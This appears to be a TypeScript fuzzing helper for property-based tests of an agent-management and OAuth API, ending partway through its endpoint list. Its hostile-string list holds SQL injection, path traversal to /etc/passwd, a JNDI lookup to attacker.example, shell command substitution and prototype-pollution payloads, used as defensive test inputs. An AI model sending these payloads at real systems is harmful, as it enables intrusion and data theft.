import { ownerSql } from '../helper.js'
import { gzipSync } from 'node:zlib'
import type { InjectOptions, LightMyRequestResponse } from 'fastify'
import fc from 'fast-check'
import { expect } from 'vitest'
import type { App } from '../../src/app.js'
import { newId } from '../../src/ids.js'
import { ADMIN_SCOPES } from '../../src/scopes.js'
import { basicAuth } from './oauth.js'
import { mintAccessToken } from './tokens.js'

/**
 * Request generators for property-based tests of every public endpoint. An endpoint is a descriptor; the
 * generators know how to make hostile paths, query strings, headers, content types, encodings and bodies for
 * it. Adding an endpoint (the OAuth ones, say) is one entry in ENDPOINTS.
 */

/** What the suite knows of the app under test: live ids to aim at, tokens to send. */
export interface FuzzContext {
  agentIds: string[]
  credentials: Array<{ agentId: string, credentialId: string }>
  /** Delegations and subject trusts that exist, so their DELETE routes can succeed as well as be refused. */
  delegationIds: string[]
  subjectTrustIds: string[]
  /** A valid Bearer header holding every admin scope. */
  adminBearer: string
  /** A valid Bearer header holding no admin scope. */
  scopelessBearer: string
  /** A live client of an active agent that may hold weather:read and weather:write, for the OAuth endpoints. */
  client: { agentId: string, clientId: string, secret: string, credentialId: string }
  /** Its Basic credentials (client_secret_basic, form-urlencoded then base64). */
  clientBasic: string
  /** Access tokens to revoke and introspect: live ones of the client, others' and an expired one of its own. */
  tokens: { own: string[], foreign: string[], expired: string }
}

export type ErrorKind =
  /** RFC 9457 application/problem+json (management API, operations, unknown routes). */
  | 'problem'
  /** RFC 6749 §5.2 application/json with `error` and Cache-Control: no-store (routes with config.oauth). */
  | 'oauth'

export interface EndpointDescriptor {
  name: string
  method: 'GET' | 'POST' | 'PATCH' | 'DELETE'
  /** Path template; `:name` segments are filled from `params`. */
  path: string
  errorKind: ErrorKind
  /** How the caller authenticates: a Bearer access token, client credentials (Basic or form), or not at all. */
  auth: 'bearer' | 'client' | 'none'
  /** What the body is when it is well formed. */
  body?: 'json' | 'form'
  /** A well-formed JSON body, which the generators then mutate member by member. */
  validBody?: (ctx: FuzzContext) => Record<string, unknown>
  /** The members of a well-formed form, each with values that are valid (or nearly: a scope not granted); mutated likewise. */
  form?: (ctx: FuzzContext) => Record<string, fc.Arbitrary<string>>
  /** Known query members, with values that are valid for them. */
  query?: Record<string, fc.Arbitrary<string>>
  /** Values of each path parameter that name something real. */
  params?: Record<string, (ctx: FuzzContext) => fc.Arbitrary<string>>
  /** The path parameters of wellFormedRequest, when `id` = the first agent is not what succeeds. */
  exampleParams?: (ctx: FuzzContext) => Record<string, string>
  /**
   * The column type each member ends up in (sql/*.sql), by where it travels: the column-type property sends each
   * one values its type cannot store. A member that reaches PostgreSQL without an entry here is untested.
   */
  columns?: Partial<Record<RequestPart, Record<string, ColumnType>>>
}

/** Where a request member travels, named as a validation error's location names it. */
export type RequestPart = 'params' | 'querystring' | 'body'

/** What a member is stored as: a PostgreSQL column type, or an opaque cursor over one. */
export type ColumnType = 'text' | 'uuid' | 'timestamptz' | 'jsonb' | 'uuid-cursor' | 'bigint-cursor'
  /** Text that reaches no column as it is: compared in memory, verified, hashed or ignored. Any of it may be accepted. */
  | 'unstored'

// Strings that have broken parsers, validators, databases and loggers somewhere.
export const HOSTILE_STRINGS: string[] = [
  '', ' ', '0', '-1', '1e309', 'NaN', 'Infinity', 'null', 'undefined', 'true', '[]', '{}', '[object Object]',
  '__proto__', 'constructor', 'prototype', 'hasOwnProperty',
  "'; drop table agents; --", '" or 1=1 --', "') or ('1'='1", '\\', '\\u0000',
  '\u0000', 'a\u0000b', '%00', '%', '%%', '%ZZ', '%C3%28', '%FF%FE', '%E2%82', '\uD800', '\uDFFF', '\uFFFF', '\uFEFF', '😀', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'ſ', 'İ', 'ﬀ', '\u202E', '\t', '\r\n', '\n\nX-Injected: 1',
  '../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'https://attacker.example/',
  '<script>alert(1)</script>', '${jndi:ldap://attacker.example/a}', '{{7*7}}', '$(id)', '`id`',
  '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '0190A4F2-0000-7000-8000-000000000000',
  '{0190a4f2-0000-7000-8000-000000000000}', '0190a4f2000070008000000000000000', '0190a4f2-0000-7000-8000-00000000000g',
  '2024-13-01', '2024-02-30T00:00:00Z', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z', '2024-01-01T00:00:00+25:00', '1970-01-01',
  'a'.repeat(129), 'a'.repeat(1025), 'a'.repeat(5000), '9'.repeat(40), '-9'.repeat(20), '0x10', '1.5', '+1', ' 1', '1 '
]

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.uuid() }
)

// Values any JSON member may be given instead of the one it expects.
const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, -(2 ** 63), 1e308, [], {}, [null], { __proto__: { admin: true } }),
  fc.integer(),
  fc.double(),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 5 }),
  fc.jsonValue({ maxDepth: 3 })
)

// String.prototype.toWellFormed (ES2024) is in Node 20 but not in this project's TypeScript lib.
const wellFormed = (text: string): string => (text as string & { toWellFormed(): string }).toWellFormed()

/** Percent-encodes, or not, or half: a query or path as a careless or malicious client writes it. */
const encoded = (value: fc.Arbitrary<string>): fc.Arbitrary<string> => fc.tuple(value, fc.constantFrom('encoded', 'raw', 'double')).map(([text, how]) => {
  if (how === 'encoded') return encodeURIComponent(wellFormed(text))
  if (how === 'double') return encodeURIComponent(encodeURIComponent(wellFormed(text)))
  // Raw: only what can travel in a request line; the rest is encoded.
  return text.replace(/[^\x21-\x7e]|[#?]/g, (c) => encodeURIComponent(wellFormed(c)))
})

function queryArbitrary (endpoint: EndpointDescriptor): fc.Arbitrary<string> {
  const known = Object.entries(endpoint.query ?? {})
  const names = known.map(([name]) => name)
  const member: fc.Arbitrary<string> = fc.oneof(
    // A known member with a valid value, a known member with a hostile one, or anything at all.
    ...(known.length > 0
      ? [
          fc.constantFrom(...known).chain(([name, valid]) => valid.map((value) => `${name}=${encodeURIComponent(value)}`)),
          fc.tuple(fc.constantFrom(...names), encoded(hostileString)).map(([name, value]) => `${name}=${value}`)
        ]
      : []),
    fc.tuple(encoded(hostileString), encoded(hostileString)).map(([name, value]) => `${name}=${value}`),
    encoded(hostileString),
    fc.constantFrom('=', '&', '==', 'a[b]=1', 'a[]=1&a[]=2', '__proto__[admin]=1', 'constructor[prototype][admin]=1', 'limit=1&limit=2')
  )
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant('') },
    { weight: 4, arbitrary: fc.array(member, { minLength: 1, maxLength: 5 }).map((members) => `?${members.join('&')}`) },
    { weight: 1, arbitrary: fc.constantFrom('?', '??', '?&&&', `?${'a=1&'.repeat(500)}`, `?limit=${'1'.repeat(400)}`) }
  )
}

/** A path template with each `:name` segment replaced by valueOf(name). */
function fillPath (template: string, valueOf: (name: string) => string): string {
  return template.replace(/:([a-z_]+)/g, (_match, name: string) => valueOf(name))
}

/** A path, and whether it is the endpoint's own (no suffix: the router takes it to the endpoint's route). */
function pathArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<{ path: string, exact: boolean }> {
  const names = [...endpoint.path.matchAll(/:([a-z_]+)/g)].map((match) => match[1] as string)
  const value = (name: string): fc.Arbitrary<string> => fc.oneof(
    { weight: 3, arbitrary: endpoint.params?.[name]?.(ctx) ?? fc.uuid() },
    { weight: 1, arbitrary: fc.uuid() },
    { weight: 3, arbitrary: encoded(hostileString) }
  )
  const filled = names.length === 0
    ? fc.constant(endpoint.path)
    : fc.tuple(...names.map(value)).map((values) => fillPath(endpoint.path, (name) => values[names.indexOf(name)] as string))
  // An OAuth endpoint has no path parameters to fuzz: mostly its own path, so the requests reach it.
  const suffix = endpoint.auth === 'client'
    ? fc.oneof({ weight: 12, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom('/', '//', '/extra', '/..', '%2F', '.json') })
    : fc.constantFrom('', '', '', '', '/', '//', '/extra', '/..', '%2F', '.json')
  return fc.tuple(filled, suffix).map(([path, end]) => ({ path: path + end, exact: end === '' }))
}

const CONTENT_TYPES = [
  'application/json', 'application/json; charset=utf-8', 'application/json; charset=UTF-8', 'APPLICATION/JSON',
  'application/json; charset=utf-16le', 'application/json; charset=latin1', 'application/json;;;', 'application/json; boundary=x',
  'application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=utf-8',
  'multipart/form-data; boundary=----x', 'text/plain', 'text/html', 'application/xml', 'application/problem+json',
  'application/merge-patch+json', 'application/octet-stream', 'application/jwt', '*/*', 'json', ';', 'garbage', ' '
]

type Body = { payload?: string | Buffer, contentType?: string, contentEncoding?: string }

/** A body: the endpoint's valid one with members mutated, JSON of any shape, a form, raw bytes or nothing; sometimes large. */
function bodyArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<Body> {
  const valid = endpoint.validBody?.(ctx) ?? {}
  const mutated: fc.Arbitrary<Record<string, unknown>> = fc.tuple(
    fc.subarray(Object.keys(valid)),
    fc.dictionary(fc.oneof(fc.constantFrom(...Object.keys(valid), '__proto__', 'constructor', 'status', 'id'), hostileString), hostileJson, { maxKeys: 3 })
  ).map(([kept, extra]) => ({ ...Object.fromEntries(kept.map((key) => [key, valid[key]])), ...extra }))
  const text: fc.Arbitrary<string | Buffer> = fc.oneof(
    { weight: 4, arbitrary: mutated.map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: hostileJson.map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 2, arbitrary: mutated.map((value) => new URLSearchParams(Object.entries(value).map(([k, v]) => [wellFormed(k), typeof v === 'string' ? wellFormed(v) : JSON.stringify(v) ?? ''])).toString()) },
    { weight: 1, arbitrary: hostileString },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
    { weight: 1, arbitrary: fc.constantFrom('{', '{"name":', '[', '"', '{"a":1}{"b":2}', '{"name":"a","name":"b"}', '\uFEFF{"name":"a"}', '{"__proto__":{"admin":true},"name":"a"}', 'null', '0', '') },
    // Larger than the 64 KB body limit, or deeply nested.
    { weight: 1, arbitrary: fc.constantFrom(JSON.stringify({ name: 'x'.repeat(70 * 1024) }), `${'['.repeat(5000)}${']'.repeat(5000)}`, JSON.stringify({ name: 'a', metadata: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, i])) })) }
  )
  const matching = endpoint.body === 'form' ? 'application/x-www-form-urlencoded' : 'application/json'
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant({}) },
    {
      weight: 6,
      arbitrary: fc.record({
        payload: text,
        contentType: fc.oneof({ weight: 3, arbitrary: fc.constant(matching) }, { weight: 2, arbitrary: fc.constantFrom(...CONTENT_TYPES) }, { weight: 1, arbitrary: fc.constant(undefined) }),
        contentEncoding: fc.oneof({ weight: 6, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom('gzip', 'br', 'deflate', 'identity', 'x-garbage', 'gzip, gzip') })
      }, { requiredKeys: ['payload'] })
    },
    // A body that really is gzip.
    { weight: 1, arbitrary: mutated.map((value) => ({ payload: gzipSync(JSON.stringify(value)), contentType: matching, contentEncoding: 'gzip' })) }
  )
}

// Header values as they can travel on the wire: visible ASCII and spaces.
const headerValue = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS.filter((value) => /^[\x20-\x7e]*$/.test(value))),
  fc.string({ unit: fc.constantFrom(...' !"#$%&\'()*+,-./0123456789:;<=>?@ABCXYZ[\\]^_`abcxyz{|}~'), maxLength: 60 })
)

function authorizationArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<string | string[] | undefined> {
  const garbage = fc.oneof(
    fc.constant(undefined),
    headerValue,
    headerValue.map((value) => `Bearer ${value}`),
    headerValue.map((value) => `Basic ${Buffer.from(value).toString('base64')}`),
    fc.constantFrom('Bearer', 'Bearer ', 'Basic', 'Basic !!!', 'Basic Og==', `Bearer ${'A'.repeat(20_000)}`, `${ctx.adminBearer}x`, ctx.adminBearer.toLowerCase())
  )
  const valid = endpoint.auth === 'client' ? ctx.clientBasic : ctx.adminBearer
  return fc.oneof(
    // Mostly the right credential, so the requests get past authentication to validation and the handler.
    { weight: endpoint.auth === 'none' ? 1 : 6, arbitrary: fc.constant(valid) },
    { weight: 1, arbitrary: fc.constant(ctx.scopelessBearer) },
    { weight: 2, arbitrary: garbage },
    { weight: 1, arbitrary: fc.constant<string[]>([valid, valid]) }
  )
}

const FORM = 'application/x-www-form-urlencoded'
const FORM_CONTENT_TYPES = [
  `${FORM}; charset=utf-8`, `${FORM}; charset=UTF-8`, `${FORM}; charset=iso-8859-1`, `${FORM}; charset=utf-16le`, `${FORM};`,
  'APPLICATION/X-WWW-FORM-URLENCODED', `${FORM}x`, `x-${FORM}`, `${FORM}, application/json`, 'application/x-www-form-urlencode'
]

/** Client authentication as a caller presents it: an Authorization header and client_id/client_secret form members. */
interface PresentedClient {
  authorization?: string | string[]
  members: Array<[string, string]>
}

/**
 * Every way of presenting client credentials (RFC 6749 §2.3.1): mostly the valid Basic header or form members, so the
 * requests reach the grant and the token checks; then a wrong secret of the live client (which costs a hash), unknown
 * clients, Basic headers that do not decode, both methods at once (§2.3: invalid_request), two Authorization
 * headers, another scheme, nothing.
 */
function presentedClientArbitrary (ctx: FuzzContext): fc.Arbitrary<PresentedClient> {
  const { clientId, secret } = ctx.client
  const wrongSecret = secret.slice(0, -1) + (secret.endsWith('A') ? 'B' : 'A')
  const post = (id: string, password: string): Array<[string, string]> => [['client_id', id], ['client_secret', password]]
  const hostileBasic = fc.oneof(
    headerValue.map((value) => `Basic ${Buffer.from(value).toString('base64')}`),
    fc.tuple(hostileString, hostileString).map(([id, password]) => basicAuth(wellFormed(id), wellFormed(password))),
    fc.tuple(encoded(hostileString), encoded(hostileString)).map(([id, password]) => `Basic ${Buffer.from(`${id}:${password}`).toString('base64')}`),
    fc.constantFrom(
      'Basic', 'Basic ', 'Basic !!!', 'Basic Og==', 'Basic ====', `Basic ${'A'.repeat(20_000)}`, `Basic ${Buffer.from(clientId).toString('base64')}`,
      `Basic ${Buffer.from(`:${secret}`).toString('base64')}`, `Basic ${Buffer.from(`${clientId}:`).toString('base64')}`,
      `Basic ${Buffer.from(`%ZZ:${secret}`).toString('base64')}`, `Basic ${Buffer.from(`${clientId}:%E2%82`).toString('base64')}`,
      `Basic ${Buffer.from(`${clientId}:${secret}`, 'utf16le').toString('base64')}`, `basic ${ctx.clientBasic.slice(6)}`,
      `BASIC ${ctx.clientBasic.slice(6)}`, `Basic  ${ctx.clientBasic.slice(6)} `, `${ctx.clientBasic}=`, `${ctx.clientBasic}x`, `${ctx.clientBasic},${ctx.clientBasic}`,
      basicAuth('agt_nobody', secret), basicAuth(clientId, `${secret} `), basicAuth(`${clientId} `, secret), basicAuth(clientId, 'x'.repeat(600)), basicAuth('x'.repeat(600), secret)
    )
  )
  return fc.oneof(
    { weight: 8, arbitrary: fc.constant<PresentedClient>({ authorization: ctx.clientBasic, members: [] }) },
    { weight: 3, arbitrary: fc.constant<PresentedClient>({ members: post(clientId, secret) }) },
    // RFC 6749 §2.3: one method per request; a client_id in the form must name the Basic client.
    { weight: 1, arbitrary: fc.constantFrom<PresentedClient>({ authorization: ctx.clientBasic, members: post(clientId, secret) }, { authorization: ctx.clientBasic, members: [['client_secret', secret]] }, { authorization: ctx.clientBasic, members: [['client_id', clientId]] }, { authorization: ctx.clientBasic, members: [['client_id', 'agt_nobody']] }) },
    { weight: 3, arbitrary: fc.constantFrom<PresentedClient>({ authorization: basicAuth(clientId, wrongSecret), members: [] }, { members: post(clientId, wrongSecret) }) },
    { weight: 3, arbitrary: hostileBasic.map((authorization): PresentedClient => ({ authorization, members: [] })) },
    {
      weight: 2,
      arbitrary: fc.oneof(
        fc.tuple(hostileString, hostileString).map(([id, password]) => post(id, password)),
        hostileString.map((password) => post(clientId, password)),
        fc.constant(post('agt_nobody', secret)),
        fc.constant<Array<[string, string]>>([['client_secret', secret]]),
        fc.constant<Array<[string, string]>>([['client_id', clientId]]),
        fc.constant<Array<[string, string]>>([...post(clientId, secret), ['client_secret', secret]]),
        fc.constant<Array<[string, string]>>([...post(clientId, secret), ['client_id', clientId]])
      ).map((members): PresentedClient => ({ members }))
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<PresentedClient>(
        { members: [] }, { authorization: ctx.adminBearer, members: [] }, { authorization: ctx.adminBearer, members: post(clientId, secret) },
        { authorization: [ctx.clientBasic, ctx.clientBasic], members: [] }, { authorization: [ctx.clientBasic, basicAuth('agt_nobody', secret)], members: [] },
        { authorization: ctx.clientBasic.replace('Basic', 'Digest'), members: [] }
      )
    }
  )
}

/** A form: the endpoint's members kept, dropped, made hostile or repeated (RFC 6749 §3.2: at most once), plus stray ones. */
function formMembersArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<Array<[string, string]>> {
  const values = endpoint.form?.(ctx) ?? {}
  const member = (name: string): fc.Arbitrary<Array<[string, string]>> => {
    const value = fc.oneof({ weight: 5, arbitrary: values[name] as fc.Arbitrary<string> }, { weight: 1, arbitrary: hostileString })
    return fc.oneof(
      { weight: 12, arbitrary: value.map((v): Array<[string, string]> => [[name, v]]) },
      { weight: 1, arbitrary: fc.constant<Array<[string, string]>>([]) },
      { weight: 1, arbitrary: fc.array(value, { minLength: 2, maxLength: 3 }).map((vs) => vs.map((v): [string, string] => [name, v])) },
      { weight: 1, arbitrary: value.map((v): Array<[string, string]> => [[`${name}[]`, v]]) }
    )
  }
  const stray = fc.tuple(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'hasOwnProperty', 'toString', 'scope', 'resource', 'token', 'grant_type', 'a[b]', ''), hostileString), hostileString)
  return fc.tuple(fc.tuple(...Object.keys(values).map(member)), fc.oneof({ weight: 4, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(stray, { maxLength: 3 }) }))
    .map(([known, extra]) => [...known.flat(), ...extra.filter(([name]) => name !== 'client_id' && name !== 'client_secret')])
}

/** The bytes of a form: percent-encoded as URLSearchParams does, or carelessly, in another charset, huge, gzipped. */
function formPayloadArbitrary (members: Array<[string, string]>): fc.Arbitrary<{ payload: string | Buffer, contentEncoding?: string }> {
  const proper = new URLSearchParams(members.map(([name, value]) => [wellFormed(name), wellFormed(value)])).toString()
  // Careless: names and values raw, %20 for spaces, or doubly encoded; separators stay, so members stay members.
  const careless = fc.tuple(...members.map(([name, value]) => fc.constantFrom('raw', 'percent', 'double').map((how) => {
    const encode = (text: string): string => how === 'raw'
      ? text.replace(/[&=#%+]|[^\x21-\x7e]/g, (c) => encodeURIComponent(wellFormed(c)))
      : how === 'percent' ? encodeURIComponent(wellFormed(text)) : encodeURIComponent(encodeURIComponent(wellFormed(text)))
    return `${encode(name)}=${encode(value)}`
  }))).map((parts) => parts.join('&'))
  return fc.oneof(
    { weight: 10, arbitrary: fc.constant({ payload: proper }) },
    { weight: 2, arbitrary: careless.map((payload) => ({ payload })) },
    { weight: 1, arbitrary: fc.constantFrom(`&&${proper}&&`, `${proper}&=`, `${proper}&%ZZ=%ZZ`, `${proper}&%C3%28=%FF`, `\uFEFF${proper}`, proper.replace(/&/g, ';'), proper.toUpperCase()).map((payload) => ({ payload })) },
    { weight: 1, arbitrary: fc.constantFrom(Buffer.from(proper, 'utf16le'), Buffer.from(`\uFEFF${proper}`, 'utf8'), Buffer.from(`${proper}&x=\u00e9\u00ff`, 'latin1')).map((payload) => ({ payload })) },
    // Above the OAuth endpoints' body limits (16 and 32 KB), a member above its 4 or 16 KB, thousands of members.
    { weight: 1, arbitrary: fc.constantFrom(`${proper}&pad=${'x'.repeat(40 * 1024)}`, `${proper}&scope=${'s'.repeat(5000)}`, `${proper}&token=${'t'.repeat(17_000)}`, `${proper}${'&a=1'.repeat(3000)}`).map((payload) => ({ payload })) },
    { weight: 1, arbitrary: fc.constantFrom({ payload: gzipSync(proper), contentEncoding: 'gzip' }, { payload: proper, contentEncoding: 'gzip' }, { payload: proper, contentEncoding: 'x-garbage' }, { payload: gzipSync(proper) }) }
  )
}

/** What an OAuth endpoint is sent: client credentials by one method, both or none, over any body. */
function clientRequestArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<{ body: Body, authorization?: string | string[], authorized: boolean }> {
  return fc.tuple(presentedClientArbitrary(ctx), formMembersArbitrary(endpoint, ctx)).chain(([presented, members]) => {
    const all = [...members, ...presented.members]
    const form = fc.tuple(formPayloadArbitrary(all), fc.oneof({ weight: 8, arbitrary: fc.constant<string | undefined>(FORM) }, { weight: 1, arbitrary: fc.constantFrom<string | undefined>(...FORM_CONTENT_TYPES, ...CONTENT_TYPES, undefined) }))
      .map(([{ payload, contentEncoding }, contentType]) => ({ payload, contentType, contentEncoding }))
    // Or no form at all: JSON, bytes, nothing (RFC 6749 §3.2 takes forms only).
    const body = fc.oneof({ weight: 8, arbitrary: form }, { weight: 1, arbitrary: bodyArbitrary(endpoint, ctx) }, { weight: 1, arbitrary: fc.constant(Object.fromEntries(all)).map((value) => ({ payload: JSON.stringify(value), contentType: 'application/json' })) })
    return body.map((chosen) => ({ body: chosen, authorization: presented.authorization, authorized: authorizedClient(ctx, presented, chosen) }))
  })
}

/** Whether the server sees the live client's credentials by exactly one method, as the form arrives (mangled or not). */
function authorizedClient (ctx: FuzzContext, presented: PresentedClient, body: Body): boolean {
  const { clientId, secret } = ctx.client
  const readable = body.payload !== undefined && (body.contentEncoding ?? 'identity') === 'identity' && (body.contentType ?? '').toLowerCase().startsWith(FORM)
  // The server reads the bytes as UTF-8, whatever the charset says.
  const form = new URLSearchParams(readable ? Buffer.from(body.payload as string | Buffer).toString('utf8') : '')
  const ids = form.getAll('client_id')
  const secrets = form.getAll('client_secret')
  // The scheme is case-insensitive and may be followed by several spaces (RFC 9110 §11.4); the field value is trimmed.
  const sameBasic = typeof presented.authorization === 'string' && /^basic +(\S+)\s*$/i.exec(presented.authorization)?.[1] === ctx.clientBasic.slice('Basic '.length)
  if (sameBasic) return secrets.length === 0 && ids.length <= 1 && ids.every((id) => id === clientId)
  if (presented.authorization !== undefined && (Array.isArray(presented.authorization) || /^basic /i.test(presented.authorization))) return false
  return ids.length === 1 && ids[0] === clientId && secrets.length === 1 && secrets[0] === secret
}

/** The one address many requests to a client endpoint come from: its failed authentications trip the limiter. */
export const NOISY_ADDRESS = '203.0.113.7'

/** One generated request and whether it carried the one valid credential of the endpoint. */
export interface FuzzRequest {
  options: InjectOptions
  /** The valid credential, by exactly one method (on a client endpoint: if the form arrives as a form). */
  authorized: boolean
  /** The endpoint's own method and path: the router takes it to the endpoint, whatever else is wrong with it. */
  routed: boolean
}

/** Hostile requests aimed at one endpoint: its method mostly, its path with hostile params, any query, headers and body. */
export function requestArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<FuzzRequest> {
  const valid = endpoint.auth === 'client' ? ctx.clientBasic : ctx.adminBearer
  const credentialsAndBody = endpoint.auth === 'client'
    ? clientRequestArbitrary(endpoint, ctx)
    : fc.record({
      body: endpoint.body === undefined ? fc.oneof({ weight: 4, arbitrary: fc.constant({} as Body) }, { weight: 1, arbitrary: bodyArbitrary(endpoint, ctx) }) : bodyArbitrary(endpoint, ctx),
      authorization: authorizationArbitrary(endpoint, ctx)
    }).map(({ body, authorization }) => ({ body, authorization, authorized: authorization === valid }))
  return fc.record({
    method: fc.oneof({ weight: endpoint.auth === 'client' ? 16 : 8, arbitrary: fc.constant(endpoint.method) }, { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD') }),
    path: pathArbitrary(endpoint, ctx),
    query: queryArbitrary(endpoint),
    credentialsAndBody,
    extra: fc.dictionary(
      fc.constantFrom('accept', 'accept-encoding', 'accept-charset', 'x-request-id', 'x-forwarded-for', 'origin', 'cookie', 'content-length', 'transfer-encoding', 'expect', 'x-http-method-override', 'if-none-match', 'range'),
      headerValue,
      { maxKeys: 3 }
    ),
    // Client endpoints: mostly a new address each time, so failed authentications stay below the per-address limit
    // and reach the hash; sometimes one noisy address, which trips it (429 slow_down).
    remoteAddress: endpoint.auth === 'client' ? fc.oneof({ weight: 1, arbitrary: fc.ipV4() }, { weight: 1, arbitrary: fc.constant(NOISY_ADDRESS) }) : fc.constant('127.0.0.1')
  }).map(({ method, path, query, credentialsAndBody: { body, authorization, authorized }, extra, remoteAddress }) => {
    const headers: Record<string, string | string[]> = { ...extra }
    if (authorization !== undefined) headers.authorization = authorization
    if (body.contentType !== undefined) headers['content-type'] = body.contentType
    if (body.contentEncoding !== undefined) headers['content-encoding'] = body.contentEncoding
    const options: InjectOptions = { method: method as InjectOptions['method'], url: path.path + query, headers: headers as Record<string, string>, remoteAddress }
    if (body.payload !== undefined) options.payload = body.payload
    return { options, authorized, routed: method === endpoint.method && path.exact }
  })
}

const defaultQuery = {
  limit: fc.integer({ min: 1, max: 100 }).map(String),
  status: fc.constantFrom('active', 'suspended', 'decommissioned'),
  owner: fc.string({ maxLength: 10 })
}
const anyAgent = (ctx: FuzzContext): fc.Arbitrary<string> => fc.constantFrom(...ctx.agentIds)
const timestamp = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString())

/** A token to revoke or introspect: the client's own (live or expired), another client's, or one tampered with. */
const tokenToPresent = (ctx: FuzzContext): fc.Arbitrary<string> => fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...ctx.tokens.own) },
  { weight: 2, arbitrary: fc.constantFrom(...ctx.tokens.foreign, ctx.tokens.expired) },
  { weight: 1, arbitrary: fc.constantFrom(...ctx.tokens.own).map((token) => `${token.slice(0, -2)}AA`) },
  { weight: 1, arbitrary: fc.constantFrom(...ctx.tokens.own).map((token) => token.split('.').slice(0, 2).join('.') + '.') },
  { weight: 1, arbitrary: fc.constantFrom(ctx.adminBearer.slice(7), ` ${ctx.tokens.own[0] as string}`, `Bearer ${ctx.tokens.own[0] as string}`) }
)

const AGENT_ID: Record<string, ColumnType> = { id: 'uuid' }
const AGENT_TEXT_COLUMNS: Record<string, ColumnType> = { name: 'text', description: 'text', owner: 'text', metadata: 'jsonb' }
// client_id is looked up in agents.client_id (text); client_secret is only compared with a hash.
const CLIENT_COLUMNS: Record<string, ColumnType> = { client_id: 'text', client_secret: 'unstored' }

/** Every public endpoint on main, with what makes a request to it well formed. */
export const ENDPOINTS: EndpointDescriptor[] = [
  { name: 'POST /api/v1/agents', method: 'POST', path: '/api/v1/agents', errorKind: 'problem', auth: 'bearer', body: 'json', validBody: () => ({ name: 'fuzzed', description: 'd', owner: 'o', scopes: ['weather:read'], metadata: { env: 'test' } }), columns: { body: AGENT_TEXT_COLUMNS } },
  { name: 'GET /api/v1/agents', method: 'GET', path: '/api/v1/agents', errorKind: 'problem', auth: 'bearer', query: { ...defaultQuery, cursor: fc.uuid().map((id) => Buffer.from(id).toString('base64url')) }, columns: { querystring: { owner: 'text', cursor: 'uuid-cursor' } } },
  { name: 'GET /api/v1/agents/{id}', method: 'GET', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, columns: { params: AGENT_ID } },
  { name: 'PATCH /api/v1/agents/{id}', method: 'PATCH', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', body: 'json', params: { id: anyAgent }, validBody: () => ({ name: 'renamed', description: null, owner: 'team', scopes: ['a:b'], metadata: { k: 1 }, status: 'active' }), columns: { params: AGENT_ID, body: AGENT_TEXT_COLUMNS } },
  { name: 'DELETE /api/v1/agents/{id}', method: 'DELETE', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, columns: { params: AGENT_ID } },
  { name: 'GET /api/v1/agents/{id}/usage', method: 'GET', path: '/api/v1/agents/:id/usage', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, query: { month: fc.constantFrom('2024-01', '2025-12', '1999-09') }, columns: { params: AGENT_ID } },
  { name: 'POST /api/v1/agents/{id}/credentials', method: 'POST', path: '/api/v1/agents/:id/credentials', errorKind: 'problem', auth: 'bearer', body: 'json', params: { id: anyAgent }, validBody: () => ({ expires_at: new Date(Date.now() + 86_400_000).toISOString() }), columns: { params: AGENT_ID, body: { expires_at: 'timestamptz' } } },
  { name: 'GET /api/v1/agents/{id}/credentials', method: 'GET', path: '/api/v1/agents/:id/credentials', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, columns: { params: AGENT_ID } },
  {
    name: 'DELETE /api/v1/agents/{id}/credentials/{credential_id}',
    method: 'DELETE',
    path: '/api/v1/agents/:id/credentials/:credential_id',
    errorKind: 'problem',
    auth: 'bearer',
    params: { id: anyAgent, credential_id: (ctx) => fc.constantFrom(...ctx.credentials.map((c) => c.credentialId)) },
    exampleParams: (ctx) => ({ id: ctx.credentials[0]?.agentId as string, credential_id: ctx.credentials[0]?.credentialId as string }),
    columns: { params: { id: 'uuid', credential_id: 'uuid' } }
  },
  {
    name: 'POST /api/v1/agents/{id}/delegations',
    method: 'POST',
